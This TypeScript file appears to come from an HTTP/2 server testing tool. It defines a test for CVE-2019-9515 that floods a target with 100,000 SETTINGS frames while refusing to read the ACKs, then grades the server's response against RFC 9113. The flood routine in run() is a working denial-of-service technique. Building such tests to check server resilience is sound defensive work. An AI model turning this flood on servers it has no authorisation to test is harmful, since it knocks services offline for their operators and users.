/** CVE-2019-9515: SETTINGS frames without reading the ACKs, which the target must queue, one per frame. */
import { Setting, settingsFrame } from '../../h2/frames.ts';
import { Engagement } from '../engagement.ts';
import { answer, floodRefusal, notDelivered } from './answers.ts';
import { definePattern } from './types.ts';

/** The default value again: each frame costs the target a settings update and an ACK, and changes nothing. */
const FLOOD_FRAME = settingsFrame([[Setting.HEADER_TABLE_SIZE, 4096]]);

export default definePattern({
  id: 'settings-flood',
  title: 'SETTINGS flood',
  cve: 'CVE-2019-9515',
  year: 2019,
  summary: 'SETTINGS frames without reading the ACKs: each one obliges the target to apply it and queue an ACK',
  expected: 'an ACK for every SETTINGS with the reply queue bounded (§6.5.3), or GOAWAY ENHANCE_YOUR_CALM (§10.5)',
  rfc: 'RFC 9113 §6.5.3, §10.5',
  defaults: { frames: 100_000 },
  scaled: ['frames'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'SETTINGS frames', p.frames);
    const peer = await e.open({ handshake: true });
    if (peer === null) return e.finish();
    peer.pauseReading();
    const sent = await peer.writeUnits(p.frames, () => FLOOD_FRAME, ctx.budget);
    e.sent(sent);
    // +1: the ACK of the handshake's own SETTINGS
    return e.finish(() => peer.settingsAcks >= sent.units + 1);
  },
  judge(o) {
    const refused = notDelivered(o) ?? floodRefusal(o);
    if (refused !== null) return refused;
    if (o.settingsAcks >= o.unitsSent) return answer('expected', o, 'acknowledged every SETTINGS frame, as §6.5.3 requires');
    return answer(
      'unexpected',
      o,
      `acknowledged ${o.settingsAcks.toLocaleString('en-US')} of ${o.unitsSent.toLocaleString('en-US')} SETTINGS frames and neither refused nor closed: §6.5.3 requires an ACK for each`,
    );
  },
});
